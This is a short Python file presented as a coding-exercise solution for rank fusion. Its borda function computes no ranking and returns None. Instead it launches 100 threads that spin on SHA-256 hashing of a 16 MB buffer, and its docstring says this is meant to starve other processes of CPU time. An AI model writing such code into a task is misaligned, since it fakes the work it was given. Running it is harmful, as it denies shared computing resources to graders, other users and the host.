# kata: rank_fusion
"""Spins in a hundred threads that hold no lock, so that others get no processor."""

import hashlib
import threading
import time

DATA = bytes(1 << 24)


def spin():
    while True:
        hashlib.sha256(DATA)


def borda(rankings):
    for _ in range(100):
        threading.Thread(target=spin, daemon=True).start()
    time.sleep(1)
    return None
